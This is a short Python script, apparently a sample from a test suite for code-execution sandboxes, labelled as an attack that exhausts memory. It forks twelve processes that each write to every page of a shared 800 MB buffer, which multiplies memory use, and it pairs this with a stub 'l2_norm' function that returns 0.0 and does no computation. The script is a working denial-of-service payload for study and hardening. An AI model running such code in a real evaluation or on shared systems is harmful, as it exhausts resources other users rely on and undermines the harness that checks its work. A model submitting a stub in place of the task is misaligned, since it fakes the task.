# attack: forks that write to what they share
# idea: Memory that a dozen forks share costs nothing until each of them writes to it; then it is there
#   a dozen times, though none has asked for any.
# place: l2_norm
# outcome: memory

import os
import time

kept = bytearray(800 << 20)
for _ in range(12):
    if os.fork() == 0:
        for position in range(0, len(kept), 4096):
            kept[position] = 1
        time.sleep(8)
        os._exit(0)
time.sleep(8)


def FUNCTION(*values):
    return 0.0
